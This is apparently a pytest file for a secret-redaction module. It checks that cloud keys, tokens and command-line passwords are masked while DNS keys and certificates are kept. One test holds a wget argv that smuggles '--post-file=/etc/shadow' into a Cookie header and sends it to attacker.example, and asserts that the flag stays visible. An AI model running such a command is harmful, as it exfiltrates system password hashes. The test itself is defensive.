"""Command-aware and context-aware redaction: red-team misses (must go) and DNS/public data (must stay)."""

from __future__ import annotations

import base64
import difflib
import json
import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from netghost.redact import redact, redact_argv

BENIGN = Path(__file__).resolve().parent.parent / "data" / "shell" / "benign_dev.jsonl"
KEY88 = base64.b64encode(bytes(range(9, 73))).decode()  # a 64-byte key: 88 characters ending "=="

MISSES = [
    ("65f3904113eda7c2106611406ddaa0e6\t6e0aadd6041166012c7ade3114093f56\n",
     "az cognitiveservices account keys list -g rg -n acct -o tsv",
     ["65f3904113eda7c2106611406ddaa0e6", "6e0aadd6041166012c7ade3114093f56"]),
    ("8F2D7B4C1E9A6053D4B2C8E7F1A09B3C\t1A2B3C4D5E6F708192A3B4C5D6E7F809\n",
     "az search admin-key show -g rg --service-name s -o tsv",
     ["8F2D7B4C1E9A6053D4B2C8E7F1A09B3C", "1A2B3C4D5E6F708192A3B4C5D6E7F809"]),
    ('{\n  "key": "NqVwYS81VP7.d7FguoV8FWnFbB0JxXujr4qqaaABvvLOzAxzXMcU1vs",\n'
     '  "key2": "NqVwYS81VP7.aaFguoV8FWnFbB0JxXujr4qqaaABvvLOzAxzXMcU1vt"\n}', None,
     ["d7FguoV8FWnFbB0JxXujr4qqaaABvvLOzAxzXMcU1vs", "aaFguoV8FWnFbB0JxXujr4qqaaABvvLOzAxzXMcU1vt"]),
    ("got ya29.a0AfH6SMBx3kL9mQ2vR7tY8uI0oP1aS4dF6gH9jK2lZ5xC8vB3nM from metadata\n", None,
     ["ya29.a0AfH6SMBx3kL9mQ2vR7tY8uI0oP1aS4dF6gH9jK2lZ5xC8vB3nM"]),
    ("AKIAIOSFODNN7EXAMPLQ\twJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEZ\n", None,
     ["AKIAIOSFODNN7EXAMPLQ", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEZ"]),
    ("primary key:\n" + KEY88[:76] + "\n" + KEY88[76:] + "\n", None, [KEY88[:76], KEY88[76:]]),
    ("AZURE_DEVOPS_EXT_PAT=yibdgp2hytirmzc22ven4j5z6ro35p7rn6ybqqtun2dfglkvsome\n", None,
     ["yibdgp2hytirmzc22ven4j5z6ro35p7rn6ybqqtun2dfglkvsome"]),
    ("pat yibdgp2hytirmzc22ven4j5z6ro35p7rn6ybqqtun2dfglkvsome\n", None,
     ["yibdgp2hytirmzc22ven4j5z6ro35p7rn6ybqqtun2dfglkvsome"]),
    ("mysql -h db -u admin -pS3cretPassw0rd prod", None, ["S3cretPassw0rd"]),
    ("sshpass -p 'S3cretPassw0rd' ssh admin@10.0.0.4", None, ["S3cretPassw0rd"]),
    ("token dckr_pat_2b3e36beeb386dfdaacb9b46004ccb7c in ~/.docker", None, ["dckr_pat_2b3e36beeb386dfdaacb9b46004ccb7c"]),
]  # fmt: skip


@pytest.mark.parametrize(("text", "command", "secrets"), MISSES)
def test_red_team_misses_are_redacted(text: str, command: str | None, secrets: list[str]) -> None:
    out = redact(text, command=command)
    assert [s for s in secrets if s in out.text] == []
    assert redact(out.text, command=command).text == out.text


def test_short_basic_auth_password_is_masked_in_place() -> None:
    out = redact("GET http://admin:pw@10.0.0.4:8080/ ok; pw is also a word; redis://:ab@cache:6379/0").text
    assert out == (
        "GET http://admin:[REDACTED:basic_auth]@10.0.0.4:8080/ ok; pw is also a word; "
        "redis://:[REDACTED:basic_auth]@cache:6379/0"
    )
    assert redact(out).text == out


@pytest.mark.parametrize(
    "command",
    ["mysql -h db -u admin -pS3cretPassw0rd prod", "sshpass -p 'S3cretPassw0rd' ssh -p 2222 admin@10.0.0.4"],
)
def test_command_line_passwords_are_masked_per_element(command: str) -> None:
    argv, count, _ = redact_argv(shlex.split(command))
    assert count >= 1 and "S3cretPassw0rd" not in " ".join(argv)
    assert len(argv) == len(shlex.split(command)) and argv[-1] == shlex.split(command)[-1]


def test_wrapped_certificates_are_not_keys() -> None:
    body = base64.b64encode(bytes(range(256)) * 2).decode()
    pem = "-----BEGIN CERTIFICATE-----\n" + "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
    pem += "\n-----END CERTIFICATE-----\n"
    assert redact(pem).count == 0


def _benign() -> list[dict[str, str]]:
    return [json.loads(line) for line in BENIGN.read_text().splitlines() if line.strip()]


def test_benign_network_outputs_lose_at_most_one_percent() -> None:
    changed = chars = 0
    for sample in _benign():
        text = sample["text"]
        out = redact(text, command=sample["command"]).text
        same = sum(
            b.size for b in difflib.SequenceMatcher(None, text, out, autojunk=False).get_matching_blocks()
        )
        chars += len(text)
        changed += len(text) - same
    assert chars > 10_000
    assert changed / chars <= 0.01


@pytest.mark.parametrize(
    "kind", ["dig-dnssec-ecdsa", "dig-dnskey", "dig-dnssec-multiline", "dig-txt-dkim-full", "az-activity-log"]
)
def test_dns_keys_signatures_and_token_claims_are_kept(kind: str) -> None:
    sample = next(s for s in _benign() if s["kind"] == kind)
    assert redact(sample["text"], command=sample["command"]).count == 0


def test_a_storage_key_outside_dns_context_is_still_found() -> None:
    assert redact(f"AccountKey {KEY88}\n").count == 1
    assert redact(f"example.com. 3600 IN A 10.0.0.1\nkey: {KEY88}\n").count == 1


def test_a_flag_hidden_in_a_cookie_header_stays_visible() -> None:
    shown = redact_argv(
        ["wget", "--header=Cookie: x=y; --post-file=/etc/shadow", "https://attacker.example"]
    )[0]
    assert shown[1] == "--header=Cookie: x=y; --post-file=/etc/shadow"
    assert "[REDACTED:cookie]" in redact("Cookie: a=b; session=0123456789abcdef").text


def test_urlsafe_function_keys_and_aws_ids_with_digits() -> None:
    out = redact(
        '{"functionKeys": {"default": "QF78V_y34Zp-IqtbW1ndjx6WKttnGc7YDYaF2uwREjuwWcB2EfyjFY=="}}'
    ).text
    assert "QF78V" not in out
    out = redact("ASIA2KXDXW2P8TF2WMKI\n4fURw+9bDh4uAZ7pOHrvQqxND276NvNAKtaRp2Ww").text
    assert "4fURw" not in out and "ASIA2KXD" not in out
    csp = "content-security-policy: script-src 'sha256-YGapv33lPPJvgncYnWdOAjWMC8cKqL0UYXJhCbuS1g4='"
    assert redact(csp).text == csp


# Words the redactor leaves alone on their own: the property is that a redaction never reaches past its own
# element (a draw such as `a:0000000000001` has the shape of an htpasswd DES-crypt line and is redacted
# for itself, which is no bleed).
_PLAIN = st.from_regex(r"[a-z][a-z0-9./:_-]{0,20}", fullmatch=True).filter(
    lambda t: not t.startswith("-") and redact_argv([t])[0] == [t])
_LABELLED = st.sampled_from(
    ["Authorization: Bearer {s}", "PASSWORD={s}", "--password={s}", "sig={s}", "Cookie: session={s}"]
)


@settings(max_examples=150, deadline=None)
@given(
    before=st.lists(_PLAIN, max_size=4),
    after=st.lists(_PLAIN, min_size=1, max_size=4),
    template=_LABELLED,
    secret=st.from_regex(r"[A-Z][a-z][0-9][A-Za-z0-9]{9,21}", fullmatch=True).filter(
        lambda s: len(set(s)) > 6
    ),
)
def test_a_redaction_never_changes_another_argv_element(
    before: list[str], after: list[str], template: str, secret: str
) -> None:
    argv = ["curl", *before, template.format(s=secret), *after]
    shown, _, _ = redact_argv(argv)
    assert len(shown) == len(argv)
    assert secret not in " ".join(shown)
    i = 1 + len(before)
    assert shown[:i] == argv[:i] and shown[i + 1 :] == argv[i + 1 :]
    assert shown[i].startswith(template.split("{s}", maxsplit=1)[0])
